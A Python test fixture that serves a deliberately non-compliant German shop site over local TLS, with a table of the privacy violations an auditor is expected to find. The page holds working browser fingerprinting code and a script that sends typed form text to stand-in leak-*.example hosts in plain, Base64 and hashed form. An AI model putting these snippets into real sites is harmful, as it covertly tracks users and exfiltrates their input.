"""A site over TLS with facts planted in every state, and the table of them; the same server has a clean profile.

Hosts: www.laden.example (the site), many others at *.example; one server, one certificate that the browser is told to
take. ``{P}`` stands for the port.
"""

from __future__ import annotations

import base64
import datetime
import hashlib
import ssl
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

HOST = "www.laden.example"
FLAGS = ("--host-resolver-rules=MAP *.example 127.0.0.1", "--ignore-certificate-errors")

FOOTER = """<footer><a href="/datenschutz">Datenschutz</a> <a href="/impressum">Impressum</a>
<button id="again">Cookie-Einstellungen</button></footer>"""
BANNER = """<div id="banner" hidden role="dialog"><p>Dürfen wir zählen?</p>
<button id="yes">Alle akzeptieren</button> <button id="no">Alle ablehnen</button></div>"""
CHOICE = """
const choice = (document.cookie.match(/laden_choice=(\\w+)/) || [])[1];
const banner = document.getElementById('banner');
if (!choice) banner.hidden = false;
const choose = v => {
  document.cookie = 'laden_choice=' + v + ';max-age=8640000;path=/;secure'; banner.hidden = true;
  CLEANUP
};
document.getElementById('yes').onclick = () => choose('yes');
document.getElementById('no').onclick = () => choose(choice === 'yes' ? 'withdrawn' : 'no');
document.getElementById('again').onclick = () => { banner.hidden = false; };
"""
JS = """
const img = (host, path) => { new Image().src = `https://${host}:{P}${path || '/p.gif'}`; };
const js = (host, path) => { const s = document.createElement('script');
  s.src = `https://${host}:{P}${path || '/x.js'}`; document.head.append(s); };
const days = (name, d, more) => { document.cookie = `${name}=v;max-age=${d * 86400};path=/;secure${more || ''}`; };
"""
# in every state
ALWAYS = """
img('always-img.example'); js('always-script.example'); fetch('https://always-fetch.example:{P}/f').catch(() => {});
navigator.sendBeacon('https://always-beacon.example:{P}/b', 'x');
new WebSocket('wss://always-socket.example:{P}/s').onerror = () => {};
new EventSource('https://always-events.example:{P}/e').onerror = () => {};
const xhr = new XMLHttpRequest(); xhr.open('GET', 'https://always-xhr.example:{P}/'); xhr.send();
setTimeout(() => img('late-timer.example'), 2200);
addEventListener('mousemove', () => img('first-input.example'), { once: true });
new IntersectionObserver((es, o) => { if (es.some(e => e.isIntersecting)) { o.disconnect(); img('lazy.example'); } })
  .observe(document.getElementById('deep'));
addEventListener('pagehide', () => navigator.sendBeacon('https://unload.example:{P}/u', 'x'));
days('script_cookie', 10); days('shop_long', 730); days('shop_month', 40);
document.cookie = 'session_cookie=1;path=/;secure';
localStorage.setItem('own_local', '1'); sessionStorage.setItem('own_session', '1');
indexedDB.open('own_database'); caches.open('own_cache');
navigator.serviceWorker.register('/worker.js', { scope: '/scope/' }).catch(() => {});
"""
FINGERPRINTS = {
    "canvas": """const c = document.createElement('canvas').getContext('2d'); c.fillText('zweck', 2, 20);
      c.canvas.toDataURL();""",
    "audio": "new OfflineAudioContext(1, 44100, 44100).startRendering();",
    "fonts": """const c = document.createElement('canvas').getContext('2d');
      for (let i = 0; i < 40; i++) { c.font = `12px Font${i}`; c.measureText('m'); }""",
    "graphics card": """const g = document.createElement('canvas').getContext('webgl');
      if (g) g.getParameter(37446); else WebGLRenderingContext.prototype.getParameter.call(g, 37446);""",
    "network addresses": "new RTCPeerConnection().createDataChannel('x');",
}
FORMS = """
<form action="http://www.laden.example:{P}/plain"><input name="plain_email" type="email"></form>
<form action="https://forms.example:{P}/in" method="post"><input name="foreign_name"></form>
<form action="/ok"><input name="typed" id="typed"><input name="search" id="search"></form>
<script>
const typed = document.getElementById('typed');
typed.addEventListener('input', () => { if (typed.value.length > 12) {
  fetch('https://leak-plain.example:{P}/?q=' + encodeURIComponent(typed.value)).catch(() => {});
  fetch('https://leak-body.example:{P}/', { method: 'POST', body: typed.value, mode: 'no-cors' }).catch(() => {});
  fetch('https://leak-base64.example:{P}/?d=' + btoa('{"a":"' + typed.value + '"}')).catch(() => {});
  navigator.sendBeacon('https://leak-beacon.example:{P}/b', typed.value);
} });
typed.addEventListener('blur', async () => {
  const sum = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(typed.value));
  const hex = [...new Uint8Array(sum)].map(b => b.toString(16).padStart(2, '0')).join('');
  fetch('https://leak-hash.example:{P}/?h=' + hex).catch(() => {});
});
</script>"""
FRAME = """<script>document.cookie = 'frame_cookie=1;max-age=864000;path=/;secure;samesite=none';
document.cookie = 'chips=1;max-age=864000;path=/;secure;samesite=none;partitioned';
localStorage.setItem('frame_local', '1'); sessionStorage.setItem('frame_session', '1');
indexedDB.open('frame_database'); caches.open('frame_cache');</script>"""

CLOSED = ("before", "rejected", "withdrawn")
ALL = ("before", "rejected", "accepted", "withdrawn")


def request(host: str) -> str:
    return f"request to {host}"


def own(what: str) -> str:
    return f"{what} ({HOST})"


def facts() -> list[tuple[str, str, tuple[str, ...]]]:
    """Rule, subject, and the states in which it must be found: neither fewer nor more."""
    hosts = ["img", "script", "fetch", "beacon", "socket", "events", "xhr"]
    found = [("GDPR-13-1e-recipients", request(f"always-{h}.example"), ALL) for h in hosts]
    more = ("frames.example", "css.example", "font.example", "link.example", "header.example")
    found += [("GDPR-13-1e-recipients", request(h), ALL) for h in more]
    found += [("GDPR-13-1e-recipients", request(f"only-{s}.example"), (s,)) for s in ALL]
    loaders = ("late-timer.example", "first-input.example", "lazy.example", "unload.example")
    found += [("GDPR-13-1e-recipients", request(h), ("before", "rejected")) for h in loaders]
    found += [("GDPR-13-1e-recipients", request("inner.example"), ("before",))]
    entries = (
        "cookie script_cookie",
        "cookie session_cookie",
        "cookie header_cookie",
        "cookie http_only",
        "local storage entry own_local",
        "session storage entry own_session",
        "indexeddb storage entry own_database",
        "cache storage entry own_cache",
        "service worker /scope/",
    )
    found += [("TDDDG-25-info", own(e), ALL) for e in entries]
    inside = ("local storage entry frame_local", "session storage entry frame_session",
              "indexeddb storage entry frame_database", "cache storage entry frame_cache")  # fmt: skip
    found += [("TDDDG-25-info", f"{e} (frames.example)", ALL) for e in inside]
    found += [("TDDDG-25-info", f"cookie {c} (frames.example)", ALL) for c in ("frame_cookie", "chips")]
    found += [("TDDDG-25-info", "cookie pixel_id (always-img.example)", ALL)]
    found += [("TDDDG-25-info", own(f"cookie only_{s}"), (s,)) for s in ("before",)]
    found += [("TDDDG-25-info", own("local storage entry left_behind"), ("accepted", "withdrawn"))]
    found += [("GDPR-13-2a-storage", own(f"cookie {c}"), ALL) for c in ("shop_long", "shop_month", "shop_header")]
    found += [("TDDDG-25-1", f"fingerprint by {k} ({HOST})", ALL) for k in FINGERPRINTS if k != "graphics card"]
    found += [("TDDDG-25-1", "fingerprint by canvas (prints.example)", ALL)]
    found += [(CONS[s], request("count.zaehl.example"), (s,)) for s in CLOSED]
    found += [(CONS[s], own("cookie _zaehl"), (s,)) for s in CLOSED]
    found += [("GDPR-32-toms", "form on /formular (plain_email)", ("before",))]
    found += [("GDPR-13-1e-recipients", "form on /formular (foreign_name)", ("before",))]
    leaks = ("plain", "body", "base64", "beacon", "hash")
    found += [
        ("GDPR-05-1a-fair-transparent", f"typed text on /formular to leak-{h}.example", ("before",)) for h in leaks
    ]
    found += [("GDPR-13-1e-recipients", request(f"leak-{h}.example"), ("before",)) for h in leaks]
    found += [("GDPR-13-1e-recipients", request("prints.example"), ALL)]
    found += [("declared-not-seen", "service gone", ("accepted",))]
    found += [("GDPR-12-1-form", "the privacy notice", ("before",)), ("IMP-reach", "the imprint", ("before",))]
    return found


CONS = {"before": "CONS-prior", "rejected": "CONS-active", "withdrawn": "CONS-withdraw-effect"}

DECLARATION = f"""
zweck: 1
site: {{name: Laden, domains: [{HOST}], languages: [de]}}
controller:
  name: Laden GmbH
  address: {{street: Weg 1, postcode: "10115", city: Berlin, country: DE, state: BE}}
  email: info@laden.example
activities:
  imprint:
  cookies:
    entries:
      - {{name: laden_choice, purpose: remembers your choice, lifetime: 100 days, necessary: true}}
      - {{name: shop_long, purpose: remembers the basket, lifetime: 400 days, necessary: true}}
      - {{name: shop_month, purpose: remembers the view, lifetime: 30 days, necessary: true}}
      - {{name: shop_header, purpose: remembers the login, lifetime: 1 day, necessary: true}}
services:
  zaehl:
    name: Zähl
    gate: consent
    category: analytics
    purpose: counts visits
    provider: {{name: Zähl SARL, country: FR}}
    domains: [zaehl.example]
    cookies: [{{name: _zaehl, purpose: tells visits apart, lifetime: 1 year}}]
"""
GONE = """  gone:
    name: Gone
    gate: consent
    category: analytics
    purpose: counts visits
    provider: {name: Gone SARL, country: FR}
    domains: [gone.example]
"""


def planted_page() -> str:
    states = "const state = !choice ? 'before' : { yes: 'accepted', no: 'rejected', withdrawn: 'withdrawn' }[choice];"
    own_state = """img(`only-${state}.example`); js('count.zaehl.example', '/z.js');
      if (state === 'before') document.cookie = 'only_before=1;path=/;secure';
      else document.cookie = 'only_before=;max-age=0;path=/;secure';
      if (state === 'accepted') localStorage.setItem('left_behind', '1');
      js('prints.example', '/canvas.js');"""
    prints = "".join(f"{{ try {{ {code} }} catch (e) {{}} }}" for code in FINGERPRINTS.values())
    footer = FOOTER.replace("/datenschutz", "/a").replace("/impressum", "/b").replace("Datenschutz", "Mehr")
    return f"""{BANNER}<link rel="stylesheet" href="https://css.example:{{P}}/s.css">
      <link rel="preload" as="image" href="https://link.example:{{P}}/p.gif">
      <style>@font-face {{ font-family: F; src: url(https://font.example:{{P}}/f.woff2) }}
      p {{ font-family: F }}</style>
      <iframe src="https://frames.example:{{P}}/frame" title="f"></iframe><p>Text</p>
      <div style="height: 5000px"></div><div id="deep">unten</div>{footer}<a href="/formular">Formular</a>
      <script>{JS}{CHOICE.replace("CLEANUP", "")}{states}{ALWAYS}{own_state}{prints}</script>"""


def clean_page() -> str:
    cleanup = (
        "if (v === 'yes') js('count.zaehl.example', '/z.js'); else document.cookie='_zaehl=;max-age=0;path=/;secure';"
    )
    load = "if (choice === 'yes') js('count.zaehl.example', '/z.js');"
    return f"""{BANNER}<a href="/formular">Formular</a>{FOOTER}
      <script>{JS}{CHOICE.replace("CLEANUP", cleanup)}{load}</script>"""


CLEAN_FORM = '<form action="/ok" method="post"><input name="email" type="email"></form>'
Z = "document.cookie = '_zaehl=1;max-age=864000;path=/;secure';"


def certificate(folder: Path) -> Path:
    """A key and a self-signed certificate for all test hosts, in one file."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.oid.NameOID.COMMON_NAME, HOST)])
    now = datetime.datetime.now(datetime.UTC)
    made = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
        .serial_number(1).not_valid_before(now - datetime.timedelta(1)).not_valid_after(now + datetime.timedelta(9))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName("*.example"), x509.DNSName(HOST)]), False)
        .sign(key, hashes.SHA256())
    )  # fmt: skip
    pem = serialization.Encoding.PEM
    secret = key.private_bytes(pem, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    path = folder / "site.pem"
    path.write_bytes(secret + made.public_bytes(pem))
    return path


class PlantedSite:
    def __init__(self, pem: Path, *, clean: bool) -> None:
        self.hosts: set[str] = set()
        site = self

        class Answer(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                host, path = (self.headers["Host"] or "").split(":")[0], self.path.split("?")[0]
                site.hosts.add(host)
                status, kind, body, more = site.answer(host, path, clean)
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Access-Control-Allow-Origin", "*")
                for name, value in more:
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body.replace("{P}", str(site.port)).encode())

            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                self.do_GET()

            def log_message(self, *_: object) -> None:
                pass

        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(pem)
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
        self.server.socket = context.wrap_socket(self.server.socket, server_side=True, do_handshake_on_connect=False)
        self.server.handle_error = lambda *_: None
        self.port = self.server.server_address[1]

    def answer(self, host: str, path: str, clean: bool) -> tuple[int, str, str, list[tuple[str, str]]]:
        if host == HOST:
            return self.page(path, clean)
        if path == "/frame":
            return 200, "text/html", FRAME, []
        if path == "/z.js":
            return 200, "text/javascript", Z, []
        if path == "/canvas.js":
            return 200, "text/javascript", f"{{ {FINGERPRINTS['canvas']} }}", []
        if path.endswith(".gif"):
            more = [("Set-Cookie", "pixel_id=1; Max-Age=99999; Secure; SameSite=None")] * host.startswith("always")
            return 200, "image/gif", "", more
        return 200, "text/css" if path.endswith(".css") else "text/javascript", "", []

    def page(self, path: str, clean: bool) -> tuple[int, str, str, list[tuple[str, str]]]:
        if path == "/worker.js":
            return 200, "text/javascript", "self.addEventListener('fetch', () => {});", []
        if path not in ("/", "/formular", "/datenschutz", "/impressum", "/a", "/b"):
            return 404, "text/plain", "", []
        form = CLEAN_FORM if clean else FORMS + "<img src='https://inner.example:{P}/p.gif' alt=''>"
        body = (clean_page() if clean else planted_page()) if path == "/" else form if path == "/formular" else ""
        cookies = [
            ("Set-Cookie", "header_cookie=1; Max-Age=8640000; Path=/; Secure"),
            ("Set-Cookie", "http_only=1; Path=/; Secure; HttpOnly"),
            ("Set-Cookie", "shop_header=1; Expires=Fri, 31 Dec 2100 23:59:59 GMT; Path=/; Secure"),
            ("Link", "<https://header.example:{P}/h.css>; rel=preload; as=style".replace("{P}", str(self.port))),
        ]
        icon = "<link rel='icon' href='data:,'>"
        page = f"<!doctype html><html lang='de'><head><meta charset='utf-8'><title>L</title>{icon}</head><body>{body}"
        return 200, "text/html; charset=utf-8", page, [] if clean or path != "/" else cookies

    @property
    def url(self) -> str:
        return f"https://{HOST}:{self.port}/"


@contextmanager
def planted(folder: Path, *, clean: bool = False) -> Iterator[PlantedSite]:
    site = PlantedSite(certificate(folder), clean=clean)
    threading.Thread(target=site.server.serve_forever, daemon=True).start()
    try:
        yield site
    finally:
        site.server.shutdown()
        site.server.server_close()


def disguised(word: str) -> dict[str, str]:
    """The usual disguises of a typed text, made independently of the audit."""
    return {
        "plain": f"q={word}",
        "Base64": base64.b64encode(f'{{"mail":"{word}"}}'.encode()).decode(),
        "SHA-256": hashlib.sha256(word.encode()).hexdigest(),
        "SHA-1": hashlib.sha1(word.encode()).hexdigest(),
        "MD5": hashlib.md5(word.encode()).hexdigest(),
        "hexadecimal": word.encode().hex(),
    }
